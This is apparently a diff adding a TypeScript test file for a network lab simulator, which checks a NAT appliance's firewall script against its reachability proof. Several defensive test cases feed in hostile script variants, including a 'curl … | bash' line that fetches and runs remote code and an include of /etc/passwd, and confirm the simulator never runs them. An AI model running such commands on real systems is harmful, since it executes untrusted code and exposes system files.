@@ -1,0 +1,118 @@
+import { applianceScript } from "../../src/constructs/appliance-script";
+import { experiment, layOut, Sandbox } from "../../src/lab";
+import { differently } from "../../src/lab/arriving-as";
+import { type LabNetwork } from "../../src/lab/lab-network";
+import { machineOf } from "../../src/lab/machines";
+import { Walker } from "../../src/reachability";
+import { AS_USER, describeWithLab, LAB_ENV } from "../support/lab";
+import { thing, topologyOf } from "../support/networks";
+import { APPLIANCE, CLIENT, OTHER, WEB } from "./appliance-lab";
+import { applianceNetwork, BOTH, PROPS } from "./appliance-network";
+
+/** Every probe of a lab's matrix, and what became of it. */
+async function tried(script: string) {
+  const topology = topologyOf(applianceNetwork(script));
+  const task = { topology, walker: new Walker(topology), statements: [] };
+  const lab = layOut(task);
+  const sandbox = await Sandbox.open({ name: "matrix", asUser: AS_USER, env: LAB_ENV });
+  try {
+    const { statements } = await experiment(sandbox, lab, task);
+    return {
+      disagreements: statements.flatMap((one) => one.disagreements),
+      of: (from: string, to: string): [number, number, number] => {
+        const own = statements.filter(({ text }) => text === `${from} -> ${to}`);
+        const sum = (what: "probes" | "delivered" | "answered"): number => own.reduce((all, one) => all + one[what], 0);
+        return [sum("probes"), sum("delivered"), sum("answered")];
+      },
+    };
+  } finally {
+    await sandbox.close();
+  }
+}
+
+/** Probes of a sender at addresses that the appliance translates: how many, how many arrive, how many are answered. */
+type Row = [probes: number, delivered: number, answered: number];
+
+describeWithLab()("the matrix of an appliance: the kernel agrees with the proof, and nothing unlisted passes", () => {
+  test("one way: each client gets through by TCP, UDP and ping at the listed ports, the web side not at all", async () => {
+    const { of, disagreements } = await tried(applianceScript(PROPS));
+    expect(disagreements).toEqual([]);
+    expect(of(CLIENT, APPLIANCE)).toEqual<Row>([14, 3, 3]);
+    expect(of(OTHER, APPLIANCE)).toEqual<Row>([14, 3, 3]);
+    expect(of(WEB, APPLIANCE)).toEqual<Row>([14, 0, 0]);
+  }, 60_000);
+
+  test("both ways: the web side gets through to each client at its one port", async () => {
+    const { of, disagreements } = await tried(applianceScript(BOTH));
+    expect(disagreements).toEqual([]);
+    expect(of(CLIENT, APPLIANCE)).toEqual<Row>([32, 3, 3]);
+    expect(of(WEB, APPLIANCE)).toEqual<Row>([32, 2, 2]);
+  }, 60_000);
+
+  test("without forwarding nothing gets through, and without translation nothing either", async () => {
+    for (const [line, other] of [
+      ["ip_forward=1", "ip_forward=0"],
+      [/^.*iifname \$inner dnat .*\n/m, ""],
+    ] as const) {
+      const { of, disagreements } = await tried(applianceScript(PROPS).replace(line, other));
+      expect([disagreements, of(CLIENT, APPLIANCE)[1]]).toEqual([[], 0]);
+    }
+  }, 60_000);
+});
+
+describe("on paper", () => {
+  const labOf = (script: string): LabNetwork => {
+    const topology = topologyOf(applianceNetwork(script));
+    return layOut({ topology, walker: new Walker(topology), statements: [] });
+  };
+  const script = applianceScript(PROPS);
+  const spaces = (lab: LabNetwork): string[] => lab.places.ports.map(({ space }) => space);
+
+  test("both interfaces hang on one namespace, which gets the ruleset as it stands in the script", () => {
+    const { places, spaces, cables } = labOf(script);
+    const own = places.ports.filter(({ space }) => space === APPLIANCE);
+    expect(own.map(({ address, device }) => [address, device])).toEqual([
+      ["aws_network_interface.inner", "ens5"],
+      ["aws_network_interface.outer", "ens6"],
+    ]);
+    const [space, ...more] = spaces.filter(({ name }) => name === APPLIANCE);
+    expect(more).toEqual([]);
+    const text = /<<'EOF'\n([^]*)\nEOF/.exec(script)?.[1];
+    expect(space?.rulesets?.map(({ lines }) => lines.join("\n"))).toEqual([text]);
+    expect(cables.filter(({ to }) => to.space === APPLIANCE).map(({ to }) => to.device)).toEqual(["ens5", "ens6"]);
+  });
+
+  test.each<[string, string]>([
+    ["that can't be read", `${script}curl https://example.com/more.sh | bash\n`],
+    ["that includes a file", script.replace("table ip appliance\n", 'include "/etc/passwd"\ntable ip appliance\n')],
+    ["that runs a program", script.replace("#!/bin/bash", "#!/usr/bin/python3")],
+  ])("an instance with a script %s stays two plain hosts, and nothing of the script is run", (_, other) => {
+    const lab = labOf(other);
+    expect(spaces(lab)).not.toContain(APPLIANCE);
+    expect(spaces(lab)).toEqual(expect.arrayContaining(["aws_network_interface.inner", "aws_network_interface.outer"]));
+    expect(lab.spaces.flatMap(({ rulesets = [] }) => rulesets)).toEqual([]);
+  });
+
+  test("the reader's word is not enough for a text that reads files", () => {
+    const topology = topologyOf(applianceNetwork(script));
+    const { router } = thing(topology.nics, "aws_network_interface.inner");
+    if (router?.reading.kind !== "read") throw new Error("not read");
+    expect(machineOf({ ...topology.nics[0]!, router })).toBeDefined();
+    const [run] = router.reading.router.runs;
+    const withFile = { text: `include "/etc/passwd"\n${run!.text}`, defined: run!.defined };
+    const reading = { kind: "read" as const, router: { ...router.reading.router, runs: [withFile] } };
+    expect(machineOf({ ...topology.nics[0]!, router: { ...router, reading } })).toBeUndefined();
+  });
+
+  test("packets that arrive with other addresses than the proof says are told, and to somebody else", () => {
+    const says = { source: 0x64400214, destination: 0x0a40000a, cables: ["e5"] };
+    const as = (cable: string, source: string, destination = "10.64.0.10") => ({ cable, source, destination });
+    expect(differently(says, [as("e5", "100.64.2.20")])).toBeUndefined();
+    expect(differently(says, [])).toBeUndefined();
+    expect(differently(says, [as("e5", "100.64.2.21")])).toEqual({
+      said: "100.64.2.20 -> 10.64.0.10",
+      did: "100.64.2.21 -> 10.64.0.10",
+    });
+    expect(differently(says, [as("e6", "100.64.2.20")])).toBeDefined();
+  });
+});
